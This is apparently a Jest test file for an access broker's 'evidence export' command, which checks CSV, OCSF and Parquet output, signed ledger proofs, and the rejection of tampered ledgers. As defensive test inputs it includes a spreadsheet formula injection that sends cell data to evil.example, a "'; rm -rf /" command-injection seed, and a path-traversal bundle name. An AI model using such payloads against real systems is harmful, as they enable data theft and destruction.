import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { eventJson } from '../../../core/api/wire.ts';
import type { Bundle } from '../../../core/bundle/bundle.ts';
import { canonicalJson } from '../../../core/canonical-json.ts';
import { entryOf } from '../../../core/ledger/entry.ts';
import { leafHash } from '../../../core/ledger/merkle.ts';
import { GOVERNED } from '../../support/authorities.ts';
import {
  ANA,
  BEN,
  deployed,
  deployment,
  entryBytesOf,
  orderAbout,
  SESSION,
  type TrailEvent,
  time,
  trailOf,
} from '../../support/evidence-trail.ts';
import { WITHOUT_KEY } from '../../support/manipulated-ledgers.ts';
import { parseCsv } from '../../support/parse-csv.ts';
import { readParquet } from '../../support/read-parquet.ts';
import { recordedExports } from '../../support/recorded-exports.ts';
import { entriesOf, type LedgerFolder, ledgerOf, newSigner } from '../../support/test-ledger.ts';
import {
  type Answers,
  type LedgerBroker,
  ledgerBroker,
  NOT_FOUND,
} from '../audit/ledger-broker.ts';
import type { FakeAnswer } from '../fake-server.ts';

const signer = newSigner();
const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Roll back")';

/** 300 grants, one every minute of the 20th, and a little of all the rest. */
const grants = Array.from({ length: 300 }, (_, minute) => {
  const at = time('20T00:00:00') + minute * 60_000;
  const trail = trailOf(at, minute === 7 ? { justification: EVIL } : {});
  return {
    id: trail.id,
    events: [
      trail.requested,
      trail.next({ type: 'vended', session: SESSION }, at + 1000, 'active', ANA),
      trail.next({ type: 'expired' }, at + 901_000, 'expired'),
    ],
  };
});
const FIRST = deployment(GOVERNED, time('01T10:00:00'), ['the first bundle']);
const EVENTS: readonly TrailEvent[] = [
  FIRST.event,
  ...grants.flatMap(({ events }) => events),
  orderAbout(ANA.id, { type: 'principal-suspended' }, time('20T12:00:00'), BEN),
  trailOf(time('21T10:00:00'), { outcome: 'deny' }).requested,
];
const ENTRIES = EVENTS.map(entryBytesOf);
const LOG = ledgerOf(ENTRIES, signer);
const BUNDLES = { [`GET /v1/audit/ledger/${FIRST.file}`]: bytesAnswer(FIRST.bytes) };

function bytesAnswer(body: Uint8Array) {
  return { headers: { 'content-type': 'application/json' }, body };
}

/** A request that is too long for an entry, among others: the log has its hash, the trail has all of it. */
function withLongEvent() {
  const { id: long, requested } = trailOf(time('20T09:00:00'), {
    justification: `long ${'x'.repeat(20_000)}`,
  });
  const entries = [...ENTRIES, entryBytesOf(requested)];
  return { long, entries, trail: eventJson(requested) };
}

const leafOf = (entry: Uint8Array): string => Buffer.from(leafHash(entry)).toString('base64');

const trailAnswer = (grantId: string, event: object) => ({
  [`GET /v1/grants/${grantId}/events`]: { body: { events: [event], nextCursor: null } },
});

let broker: LedgerBroker;
let out: string;
/** A broker with this log, which records exports. */
function serve(log: LedgerFolder, more: Answers = {}): void {
  const files = new Map(log);
  broker.serve(files, { ...BUNDLES, ...recordedExports(files, signer), ...more });
}
beforeEach(async () => {
  broker = await ledgerBroker(signer.vkey);
  serve(LOG);
  out = join(broker.home.folder, 'evidence');
});
afterEach(() => broker.close());

const run = (...more: readonly string[]) =>
  broker.home.run(
    ['evidence', 'export', '--from', '2026-11-20', '--to', '2026-11-20', '--out', out, ...more],
    broker.env,
  );
const read = (path: string): string => readFileSync(join(out, path), 'utf8');
const table = (name: string): readonly Readonly<Record<string, string>>[] => {
  const [columns = [], ...records] = parseCsv(read(`${name}.csv`));
  return records.map((cells) =>
    Object.fromEntries(columns.map((column, at) => [column, cells[at] ?? ''])),
  );
};
const linesOf = (path: string): readonly string[] => read(path).split('\n').slice(0, -1);
const recordsIn = (path: string): number =>
  path.endsWith('.csv') ? parseCsv(read(path)).length - 1 : linesOf(path).length;
const sha256 = (text: string | Buffer): string => createHash('sha256').update(text).digest('hex');
/** What stands beside the folder, its own traces included. */
const traces = (): readonly string[] =>
  readdirSync(broker.home.folder).filter((name) => name.startsWith(basename(out)));

test('an event that is too long for an entry is read from the trail, and is the one with this hash', async () => {
  const { long, entries, trail } = withLongEvent();
  serve(ledgerOf(entries, signer), trailAnswer(long, trail));
  expect(await run()).toMatchObject({ code: 0, err: '' });
  const row = table('population').find(({ id }) => id === long);
  expect(row?.['justification']).toBe(`long ${'x'.repeat(20_000)}`);
});

test('a ledger with digests is explained by the trails, and gives the same tables', async () => {
  await run();
  const before = ['population', 'orders', 'bundles'].map((name) => read(`${name}.csv`));
  await broker.close();
  broker = await ledgerBroker(signer.vkey);
  out = join(broker.home.folder, 'evidence');
  const trails = new Map<string, object[]>();
  const single: Record<string, FakeAnswer> = {};
  for (const event of EVENTS.map(eventJson)) {
    if (typeof event['grantId'] === 'string') {
      trails.set(event['grantId'], [...(trails.get(event['grantId']) ?? []), event]);
    } else {
      single[`GET /v1/audit/events/${event['id']}`] = { body: event };
    }
  }
  const grantTrails = [...trails].map(
    ([id, events]) =>
      [`GET /v1/grants/${id}/events`, { body: { events, nextCursor: null } }] as const,
  );
  const digests = EVENTS.map((event) => entryOf(event, 'digests').bytes);
  serve(ledgerOf(digests, signer), { ...Object.fromEntries(grantTrails), ...single });
  expect(await run()).toMatchObject({ code: 0, err: '' });
  expect(['population', 'orders', 'bundles'].map((name) => read(`${name}.csv`))).toEqual(before);
});

describe('an export', () => {
  test('has every table, and says what it has', async () => {
    const { code, out: said, err } = await run();
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(said).toContain('from 901 entries of 903, all verified');
    expect(said).toMatch(/population\.csv +300\n/);
    expect(readdirSync(out).toSorted()).toEqual([
      'README.md',
      'access-reviews.csv',
      'bundles',
      'bundles.csv',
      'controls.csv',
      'denials.csv',
      'entitlements.csv',
      'exceptions.csv',
      'exports.csv',
      'ledger',
      'manifest.json',
      'manifest.tlog-proof',
      'ocsf',
      'orders.csv',
      'population.csv',
      'principals.csv',
      'refusals.csv',
      'reviews.csv',
      'vends.csv',
      'votes.csv',
    ]);
    expect(traces()).toEqual(['evidence']);
    expect(table('population').map(({ id }) => id)).toEqual(grants.map(({ id }) => id));
    expect(table('vends')).toHaveLength(300);
    expect(table('bundles')).toMatchObject([{ inForce: 'at the start' }]);
    expect(table('orders')).toMatchObject([{ order: 'suspended', by: BEN.id }]);
    expect(table('denials')).toEqual([]);
  });

  test('runs no formula of those who are audited', async () => {
    await run();
    expect(table('population')[7]?.['justification']).toBe(`'${EVIL}`);
  });

  test('can be read by its owner alone', async () => {
    await run();
    expect(statSync(out).mode & 0o777).toBe(0o700);
  });

  test('brings the ledger along, which verifies offline', async () => {
    await run();
    const verified = await broker.home.run(
      ['audit', 'verify', '--from', join(out, 'ledger'), '--key', signer.vkey],
      {},
    );
    expect(verified).toMatchObject({ code: 0, out: expect.stringContaining('903 entries') });
    const files = readdirSync(join(out, 'ledger'), { recursive: true, withFileTypes: true });
    const paths = files
      .filter((file) => file.isFile())
      .map((file) => join(file.parentPath, file.name).slice(join(out, 'ledger').length + 1));
    expect(paths.toSorted()).toEqual([...LOG.keys()].toSorted());
  });

  test('lists its files with their hashes, and what the counts follow from', async () => {
    await run('--sample', '3', '--seed', 'x');
    const manifest = JSON.parse(read('manifest.json'));
    expect(manifest).toMatchObject({
      format: 'valetkey-evidence@v1',
      period: { from: '2026-11-20T00:00:00.000Z', until: '2026-11-21T00:00:00.000Z' },
      ledger: { vkey: signer.vkey, size: 903, checkpoint: read('ledger/checkpoint') },
      entries: { before: 1, within: 901, after: 1, first: 1, last: 901 },
      sample: { size: 3, seed: 'x', drawn: 3, proofs: 9 },
    });
    for (const { path, sha256: hash, rows } of manifest.files) {
      expect([path, sha256(readFileSync(join(out, path)))]).toEqual([path, hash]);
      if (rows !== null) expect([path, recordsIn(path)]).toEqual([path, rows]);
    }
    const listed = manifest.files.map(({ path }: { path: string }) => path.split('/')[0]);
    const others = ['ledger', 'manifest.json', 'manifest.tlog-proof'];
    expect(new Set([...listed, ...others])).toEqual(new Set(readdirSync(out)));
  });

  test('of the same period has the same tables again, bit by bit', async () => {
    await run('--sample', '3', '--seed', 'x');
    const first = out;
    out = join(broker.home.folder, 'evidence-again');
    await run('--sample', '3', '--seed', 'x');
    const tables = readdirSync(first).filter((name) => name.endsWith('.csv'));
    expect(tables).toHaveLength(15);
    for (const name of tables.filter((name) => name !== 'controls.csv')) {
      expect([name, read(name)]).toEqual([name, readFileSync(join(first, name), 'utf8')]);
    }
  });

  test('is recorded by the ledger, which signs its manifest so', async () => {
    await run();
    const hash = sha256(read('manifest.json'));
    const request = broker.server.requests.find(({ line }) => line.startsWith('POST'));
    const { size, checkpoint } = JSON.parse(read('manifest.json')).ledger;
    expect(request?.body).toEqual({
      ...{ from: '2026-11-20T00:00:00.000Z', until: '2026-11-21T00:00:00.000Z' },
      ...{ size, root: checkpoint.split('\n')[2], manifest: hash },
    });
    const verified = await broker.home.run(
      ['audit', 'verify', '--from', join(out, 'manifest.tlog-proof'), '--key', signer.vkey],
      {},
    );
    expect(verified).toMatchObject({ code: 0, out: expect.stringContaining(hash) });
  });

  test('is an entry of the next one', async () => {
    await run();
    const hash = sha256(read('manifest.json'));
    out = join(broker.home.folder, 'evidence-again');
    const period = ['--from', '2026-11-26', '--to', '2026-11-26'];
    await broker.home.run(['evidence', 'export', ...period, '--out', out], broker.env);
    expect(table('exports')).toMatchObject([{ by: BEN.id, manifest: hash, entry: '903' }]);
  });

  test('remembers the ledger, as every look does', async () => {
    await run();
    serve(ledgerOf(ENTRIES.slice(0, 100), signer));
    out = join(broker.home.folder, 'evidence-again');
    const { code, err } = await run();
    expect({ code, traces: traces() }).toEqual({ code: 1, traces: [] });
    expect(err).toContain('it had 903 entries when you saw it');
  });

  test('of a period without grants says so', async () => {
    serve(ledgerOf(ENTRIES.slice(0, 1), signer));
    const { code, out: said } = await run();
    expect(code).toBe(0);
    expect(said).toContain('No grant was requested or open in this period.');
    expect(said).toContain('The ledger ends at 2026-11-01T10:00:00Z');
    expect(read('README.md')).toContain('Export again when the period is over');
  });

  test('for programs is one document', async () => {
    const { code, out: said } = await run('--json');
    expect(code).toBe(0);
    const answer = JSON.parse(said);
    expect(answer).toMatchObject({ ok: true, out, entries: { within: 901 }, sample: null });
    expect(answer.files).toEqual(JSON.parse(read('manifest.json')).files);
  });
});

describe('the events in OCSF', () => {
  const records = (path: string) =>
    linesOf(`ocsf/${path}`).map((line) => JSON.parse(line) as Readonly<Record<string, unknown>>);

  test('are all events of the period, one class in each file', async () => {
    expect((await run()).out).toMatch(/ocsf\/user-management-3007\.jsonl +601\n/);
    expect(readdirSync(join(out, 'ocsf'))).toEqual([
      'authorize-session-3003.jsonl',
      'compliance-finding-2003.jsonl',
      'detection-finding-2004.jsonl',
      'entity-management-3004.jsonl',
      'user-management-3007.jsonl',
    ]);
    const all = readdirSync(join(out, 'ocsf')).flatMap((path) =>
      records(path).map((record) => {
        expect(`${record['class_uid']}`).toBe(path.match(/\d{4}/)?.[0]);
        return record['metadata'] as { readonly uid: string };
      }),
    );
    const within = EVENTS.slice(1, -1).map(({ id }) => id);
    expect(all.map(({ uid }) => uid).toSorted()).toEqual(within.toSorted());
    expect(JSON.parse(read('manifest.json'))).toMatchObject({ ocsf: '1.9.0' });
  });

  test('name their entries in the ledger, with its hash, and are attested', async () => {
    await run();
    const [vended] = records('authorize-session-3003.jsonl');
    const { attestation_list: list, ...fields } = vended ?? {};
    const [{ fingerprint, ...attestation }] = list as [Readonly<Record<string, unknown>>];
    expect(vended).toMatchObject({
      metadata: { log_name: signer.key.name, sequence: 2, version: '1.9.0' },
      user: { uid: ANA.id, name: ANA.name },
      unmapped: { ledger: { leafHash: leafOf(ENTRIES[2] ?? Buffer.alloc(0)) } },
    });
    const hashed = canonicalJson({ ...fields, attestation_list: [attestation] });
    expect(fingerprint).toMatchObject({ value: sha256(hashed) });
    expect(fields['unmapped']).not.toHaveProperty('v');
  });

  test('of an event that the log has the hash of are of the whole event, with the hash of its entry', async () => {
    const { entries, trail, long } = withLongEvent();
    serve(ledgerOf(entries, signer), trailAnswer(long, trail));
    await run();
    const last = records('user-management-3007.jsonl').at(-1);
    expect(last).toMatchObject({
      unmapped: {
        request: { justification: `long ${'x'.repeat(20_000)}` },
        ledger: { leafHash: leafOf(entries.at(-1) ?? Buffer.alloc(0)) },
      },
    });
  });

  test('can be written in version 1.5.0', async () => {
    await run('--ocsf', '1.5.0');
    expect(readdirSync(join(out, 'ocsf'))).toContain('user-access-3005.jsonl');
    expect(records('user-access-3005.jsonl')[0]).toMatchObject({
      metadata: { version: '1.5.0' },
      type_uid: 300501,
    });
    expect(read('README.md')).toContain(
      '| `ocsf/user-access-3005.jsonl` | 600 | events in OCSF 1.5.0',
    );
  });
});

describe('the events for Security Lake', () => {
  const LAKE = 'eu-west-1/111122223333';
  const within = (path: string): readonly string[] =>
    readdirSync(join(out, path), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name).slice(out.length + 1))
      .toSorted();

  test('are those of the JSON lines, in a partition for each class and day, by their time', async () => {
    const others = [time('19T23:59:59'), time('20T00:00:00'), time('18T08:00:00')].map((at) =>
      entryBytesOf(orderAbout(BEN.id, { type: 'principal-suspended' }, at, ANA)),
    );
    serve(ledgerOf([...ENTRIES, ...others], signer));
    const answer = await run('--from', '2026-11-18', '--parquet', LAKE);
    expect(answer).toMatchObject({ code: 0, err: '' });
    expect(answer.out).toMatch(/ {2}parquet\/ +904\n/);
    const partition = (source: string, day: string, part = ''): string =>
      `parquet/ext/${source}/region=eu-west-1/accountId=111122223333/eventDay=${day}/${source}-${day}${part}.parquet`;
    const files = within('parquet');
    expect(files).toEqual([
      partition('valetkey-3003', '20261120'),
      partition('valetkey-3007', '20261118'),
      partition('valetkey-3007', '20261119'),
      partition('valetkey-3007', '20261120'),
    ]);
    for (const [source, path] of [
      ['valetkey-3003', 'authorize-session-3003'],
      ['valetkey-3007', 'user-management-3007'],
    ] as const) {
      const own = files.filter((file) => file.includes(source));
      const rows = (await Promise.all(own.map((file) => readParquet(join(out, file))))).flatMap(
        (read) => read.rows,
      );
      const json = linesOf(`ocsf/${path}.jsonl`).map((line) => JSON.parse(line));
      const ids = (records: readonly { readonly metadata: { readonly uid: string } }[]) =>
        records.map(({ metadata }) => metadata.uid);
      const sorted = json.toSorted((one, other) => one.time - other.time);
      expect(ids(rows as never)).toEqual(ids(sorted));
    }
    const { files: listed } = JSON.parse(read('manifest.json'));
    for (const file of files) {
      const hash = sha256(readFileSync(join(out, file)));
      expect(listed).toContainEqual({ path: file, sha256: hash, rows: expect.any(Number) });
    }
    expect(read('README.md')).toContain('| `parquet/` | 904 |');
  });

  test('that reached the ledger days later are in a file of their own', async () => {
    const late = orderAbout(BEN.id, { type: 'principal-suspended' }, time('18T08:00:00'), ANA);
    const early = orderAbout(ANA.id, { type: 'principal-suspended' }, time('18T07:00:00'), BEN);
    const entries = [early, ...EVENTS.slice(1), late].map(entryBytesOf);
    serve(ledgerOf(entries, signer));
    await run('--from', '2026-11-18', '--parquet', LAKE);
    const files = within('parquet').filter((file) => file.includes('20261118/'));
    expect(files.map((file) => basename(file))).toEqual([
      'valetkey-3007-20261118-2.parquet',
      'valetkey-3007-20261118.parquet',
    ]);
  });

  test.each(['eu-west-1', '111122223333', '../x/111122223333'])(
    'need a Region and an account, which %s is not',
    async (lake) => {
      const { code, err } = await run('--parquet', lake);
      expect({ code, traces: traces() }).toEqual({ code: 2, traces: [] });
      expect(err).toContain('eu-west-1/111122223333');
    },
  );
});

describe('the entitlements', () => {
  test('are those of the bundle in force, which is there as the ledger names it', async () => {
    await run();
    const [name = ''] = readdirSync(join(out, 'bundles'));
    expect([`bundle/${name}`, read(`bundles/${name}`)]).toEqual([
      FIRST.file,
      FIRST.bytes.toString(),
    ]);
    const rows = table('entitlements');
    expect(rows.map(({ id }) => id)).toEqual(Object.keys(GOVERNED.entitlements));
    for (const row of rows) {
      expect(row).toMatchObject({
        bundle: GOVERNED.hash,
        file: `bundles/${name}`,
        inForceFrom: '2026-11-01T10:00:00Z',
        inForceUntil: '',
      });
    }
  });

  test('of a ledger that names no bundle are said to be missing', async () => {
    serve(ledgerOf(ENTRIES.slice(1), signer));
    expect((await run()).out).toContain('names no policy bundle for this period');
    expect(table('entitlements')).toEqual([]);
    expect(read('README.md')).toContain('is empty because the broker recorded none');
  });
});

describe('the controls', () => {
  test('are those of all frameworks, with the rows that answer them', async () => {
    await run();
    const rows = table('controls');
    expect(new Set(rows.map(({ framework }) => framework))).toHaveProperty('size', 4);
    const [row] = rows.filter(
      ({ control, file }) => control === 'CC6.2' && file === 'population.csv',
    );
    expect(row).toMatchObject({ rows: '300' });
    for (const { file = '' } of rows) {
      expect(file === 'sample.csv' || existsSync(join(out, file))).toBe(true);
    }
  });

  test.each([
    ['soc2', 'SOC 2 (Trust Services Criteria)'],
    ['pci', 'PCI DSS 4.0.1'],
    ['iso', 'ISO/IEC 27001:2022, Annex A'],
    ['nist', 'NIST SP 800-53 Rev. 5'],
  ])('are those of %s alone, where they are asked for', async (control, name) => {
    await run('--control', control);
    expect(new Set(table('controls').map(({ framework }) => framework))).toEqual(new Set([name]));
    expect(read('README.md')).toContain(`Controls are those of ${name}.`);
  });
});

describe('a sample', () => {
  test('is what anybody draws with the seed, and every entry of it is proven', async () => {
    expect(await run('--sample', '5', '--seed', '83417')).toMatchObject({ code: 0 });
    const wanted = grants
      .map(({ id }) => ({ id, sha256: sha256(`83417${id}`) }))
      .toSorted((one, other) => (one.sha256 < other.sha256 ? -1 : 1))
      .slice(0, 5);
    expect(table('sample')).toEqual(
      wanted.map((drawn, at) => ({ draw: String(at + 1), ...drawn, proofs: '3' })),
    );
    for (const { id } of wanted) {
      const proofs = readdirSync(join(out, 'proofs', id));
      const places = EVENTS.flatMap((event, index) =>
        'grantId' in event && event.grantId === id ? [`${index}.tlog-proof`] : [],
      );
      expect(proofs.toSorted()).toEqual(places.toSorted());
      const [proof = ''] = proofs;
      const verified = await broker.home.run(
        ['audit', 'verify', '--from', join(out, 'proofs', id, proof), '--key', signer.vkey],
        {},
      );
      expect(verified).toMatchObject({ code: 0, out: expect.stringContaining(id) });
    }
  });

  test('can be larger than the population', async () => {
    expect(await run('--sample', '1000', '--seed', 'x')).toMatchObject({ code: 0, err: '' });
    expect(table('sample')).toHaveLength(300);
  });
});

describe('nothing is exported', () => {
  const nothing = async (code: number, says: string | RegExp, ...more: readonly string[]) => {
    const { err, ...finished } = await run(...more);
    expect({ ...finished, traces: traces() }).toEqual({ code, out: '', traces: [] });
    expect(err).toMatch(says);
  };

  test.each(Object.entries(WITHOUT_KEY))('of a ledger with %s', async (_, change) => {
    serve(change(LOG));
    await nothing(1, /tell your security team/);
  });

  test('of a ledger with a changed entry, which is named', async () => {
    serve(WITHOUT_KEY['swapped entries']?.(LOG) ?? LOG);
    await nothing(1, /entry \d+ \(event ev_\w+ of grant gr_\w+\) was changed after it was signed/);
  });

  test('of a ledger with digests that no trail explains', async () => {
    const digests = EVENTS.map((event) => entryOf(event, 'digests').bytes);
    serve(ledgerOf(digests, signer));
    await nothing(1, /Entry 0 of the ledger of .* has only the SHA-256 of event ev_\w+/);
  });

  test('of a ledger with a digest whose event was changed in the trail', async () => {
    const { long, entries, trail } = withLongEvent();
    serve(ledgerOf(entries, signer), trailAnswer(long, { ...trail, entitlement: 'other' }));
    await nothing(1, /has only the SHA-256 of event ev_\w+/);
  });

  test('of a ledger that is newer than the command', async () => {
    serve(ledgerOf([Buffer.from('{"v":1,"type":"teleported","id":"x"}')], signer));
    await nothing(1, /does not know: type teleported.\n.*update valetkey/);
  });

  test('of a ledger whose entries are no events', async () => {
    const text = Buffer.from(entriesOf(1)[0] ?? []).toString();
    serve(ledgerOf([Buffer.from(text.replace('"actor"', '"actress"'))], signer));
    await nothing(1, /Entry 0 .* is signed, but it is no event: its actor/);
  });

  test('without a bundle that the ledger names', async () => {
    serve(LOG, { [`GET /v1/audit/ledger/${FIRST.file}`]: NOT_FOUND });
    await nothing(1, /policy bundle bundle\/sha256-\w+\.json, which the ledger .* is not there/);
  });

  test('with a bundle that is another one than the ledger names', async () => {
    const other = bytesAnswer(Buffer.from(`${FIRST.bytes} `));
    serve(LOG, { [`GET /v1/audit/ledger/${FIRST.file}`]: other });
    await nothing(1, /is another one: its SHA-256 is not its name/);
  });

  test('with a file that is no bundle', async () => {
    const { event, file } = deployment({ hash: 'x' } as Bundle, time('19T10:00:00'), []);
    const bytes = Buffer.from(canonicalJson({ hash: 'x' }));
    const answers = { [`GET /v1/audit/ledger/${file}`]: bytesAnswer(bytes) };
    serve(ledgerOf([entryBytesOf(event), ...ENTRIES.slice(1)], signer), answers);
    await nothing(1, /is not what this version of valetkey can read/);
  });

  test('with a bundle whose name leads elsewhere, which is not asked for', async () => {
    const event = deployed('sha256:1', time('19T10:00:00'), [], 'bundle/../../../v1/grants');
    serve(ledgerOf([entryBytesOf(event), ...ENTRIES.slice(1)], signer));
    await nothing(1, /has no name of a bundle/);
    expect(broker.server.requests.map(({ line }) => line)).not.toContain('GET /v1/grants');
  });

  test('from a broker without a ledger', async () => {
    broker.say(null);
    await nothing(1, /has no audit ledger/);
  });

  test('for who may not audit', async () => {
    const forbidden = {
      status: 403,
      headers: { 'content-type': 'application/problem+json' },
      body: { type: 't', title: 't', status: 403, detail: 'You need permission to audit.' },
    };
    serve(LOG, { 'GET /v1/audit/ledger/checkpoint': forbidden });
    await nothing(4, /takes the right to audit/);
  });

  test('that the broker does not record', async () => {
    const full = { ...NOT_FOUND, status: 400 };
    serve(LOG, { 'POST /v1/audit/exports': full });
    await nothing(2, /There is no such file/);
  });

  test('whose record is of something else', async () => {
    const other = { id: 'ev_1', type: 'evidence-exported', manifest: 'ab' };
    serve(LOG, { 'POST /v1/audit/exports': { status: 201, body: other } });
    await nothing(1, /recorded another export than this one/);
  });

  test('whose record is not what the ledger has', async () => {
    const files = new Map(LOG);
    const answers = recordedExports(files, signer);
    const record = answers['POST /v1/audit/exports'];
    broker.serve(files, {
      ...{ ...BUNDLES, ...answers },
      'POST /v1/audit/exports': (body) => {
        const { status, body: event } = typeof record === 'function' ? record(body) : {};
        return { status: status ?? 500, body: { ...(event as object), reason: 'changed' } };
      },
    });
    await nothing(1, /The record of this export, event ev_export01, is not what the proof/);
  });

  test('while there is no checkpoint', async () => {
    serve(new Map(), { 'GET /v1/audit/ledger/checkpoint': NOT_FOUND });
    await nothing(1, /has no checkpoint/);
  });

  test.each([
    [['--to', '2026-11-19'], /ends \(2026-11-19\) before it begins/],
    [['--from', '20.11.2026'], /"20.11.2026" is no day/],
    [['--sample', '3'], /needs both --sample and --seed/],
    [['--seed', 'x'], /needs both --sample and --seed/],
    [['--sample', '3', '--seed', "'; rm -rf /"], /up to 64 letters/],
    [['--control', 'hipaa'], /Allowed choices are soc2, pci, iso, nist/],
  ])('with %j', async (args, says) => {
    await nothing(2, says, ...args);
    expect(broker.server.requests).toEqual([]);
  });
});

describe('the folder', () => {
  test('may be there and empty', async () => {
    mkdirSync(out);
    expect((await run()).code).toBe(0);
    expect(table('population')).toHaveLength(300);
  });

  test('is never overwritten', async () => {
    mkdirSync(out);
    writeFileSync(join(out, 'mine'), 'mine');
    const { code, err } = await run();
    expect({ code, names: readdirSync(out) }).toEqual({ code: 2, names: ['mine'] });
    expect(err).toContain('is not empty: nothing is overwritten');
    expect(broker.server.requests).toEqual([]);
  });

  test('is no file', async () => {
    writeFileSync(out, 'mine');
    const { code, err } = await run();
    expect(code).toBe(2);
    expect(err).toContain('is no folder');
  });

  test('that cannot be written says so', async () => {
    writeFileSync(join(broker.home.folder, 'file'), '');
    out = join(broker.home.folder, 'file', 'evidence');
    const { code, err } = await run();
    expect(code).toBe(1);
    expect(err).toMatch(/Cannot write .*: a parent folder is a file/);
  });

  test('of an export that was stopped says that it is incomplete', async () => {
    const tile = 'GET /v1/audit/ledger/tile/entries/001';
    serve(LOG, { [tile]: { delayMs: 3_600_000 } });
    const running = broker.home.start(
      ['evidence', 'export', '--from', '2026-11-20', '--to', '2026-11-20', '--out', out],
      broker.env,
    );
    const isReached = () => broker.server.requests.some(({ line }) => line === tile);
    while (!isReached()) await sleep(20);
    // The first signal waits for the answer, the second for nothing.
    const again = setInterval(() => running.child.kill('SIGINT'), 100);
    const { code } = await running.finished;
    clearInterval(again);
    expect({ code, traces: traces() }).toEqual({
      code: 130,
      traces: [expect.stringMatching(/^evidence\.incomplete-\w+$/)],
    });
  });
});
